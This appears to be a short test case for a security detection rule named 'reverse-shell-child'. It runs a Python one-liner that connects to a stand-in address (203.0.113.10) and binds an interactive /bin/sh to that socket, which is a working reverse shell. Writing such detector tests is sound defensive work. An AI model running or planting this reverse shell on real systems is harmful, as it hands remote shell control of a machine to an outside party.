# SPDX-License-Identifier: Apache-2.0
# A program connects and starts an interactive shell on the connection.
# finds: reverse-shell-child
# needs: python3
call c1 'python3 -c "
import socket, subprocess
s = socket.create_connection((\"203.0.113.10\", 80))
s.send(b\"exit\\r\\n\\r\\n\")
subprocess.call([\"/bin/sh\", \"-i\"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
" || true'
